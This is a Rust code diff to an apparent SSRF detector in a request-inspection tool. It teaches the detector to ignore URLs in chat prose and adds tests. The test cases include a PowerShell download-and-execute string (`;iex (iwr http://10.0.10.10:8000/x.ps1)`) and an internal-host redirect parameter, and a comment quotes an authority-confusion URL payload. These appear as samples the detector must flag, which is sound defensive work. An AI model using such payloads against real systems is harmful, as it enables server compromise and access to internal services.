@@ -587,6 +587,20 @@ fn browser_redirect(cx: &Ctx<'_>) -> bool {
     .any(|n| param.eq_ignore_ascii_case(n))
 }
 
+/// Whether the text before a URL at `at` reads as prose: two words or more
+/// separated by blanks (`deploy, then curl `) and none of the marks that
+/// make it code or markup (`;iex (iwr `, `url=`, `<a href="`).
+fn prose_before(s: &str, at: usize) -> bool {
+    let head = s.get(..at).unwrap_or("");
+    if head.contains([';', '|', '&', '$', '(', ')', '{', '}', '<', '>', '=']) {
+        return false;
+    }
+    head.split_whitespace()
+        .filter(|w| w.bytes().any(|c| c.is_ascii_alphabetic()))
+        .count()
+        >= 2
+}
+
 /// A Referer or Origin header: where the browser came from. Hybrid mobile
 /// and desktop apps send their own schemes there (`capacitor://localhost`,
 /// `ionic://localhost`, `tauri://localhost`, `file://`).
@@ -646,7 +660,12 @@ pub fn urls(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
                 Some(_) if scheme != "file" && whole_value => {
                     Some(("ssrf", "ssrf.internal_host", 0.8))
                 }
-                Some(_) if scheme != "file" => Some(("ssrf", "ssrf.internal_host", 0.6)),
+                // Inside prose (`then curl http://localhost:8080/health` in
+                // a chat message) a URL is text about a machine, not one
+                // the server is handed to fetch.
+                Some(_) if scheme != "file" && !prose_before(s, scheme_start) => {
+                    Some(("ssrf", "ssrf.internal_host", 0.6))
+                }
                 // `http://a.com:80 &@a.com:80# @127.0.0.1:22/`: parsers that
                 // end the authority at `/` only see the host after the last `@`.
                 _ if rest.contains('@')
@@ -4143,6 +4162,20 @@ mod tests {
             ),
         ] {
             assert_eq!(urls(v, c).map(|f| f.1), Some(rule), "{v:?} in {}", c.name);
+        }
+        // A URL inside prose is text about a machine; glued to code it is not.
+        let chat = on(Kind::Value, "body.json.text", "chat.example");
+        for v in [
+            "deploy with `kubectl apply -f k8s/` then curl http://localhost:8080/health",
+            "the wiki moved to http://10.1.2.3/wiki, see you there",
+        ] {
+            assert_eq!(urls(v, &chat), None, "flagged {v:?}");
+        }
+        for v in [
+            ";iex (iwr http://10.0.10.10:8000/x.ps1)",
+            "x=1&next=http://127.0.0.1/admin",
+        ] {
+            assert!(urls(v, &chat).is_some(), "missed {v:?}");
         }
         // A page opened from a file is where the browser came from.
         assert_eq!(files("file://", &origin), None);
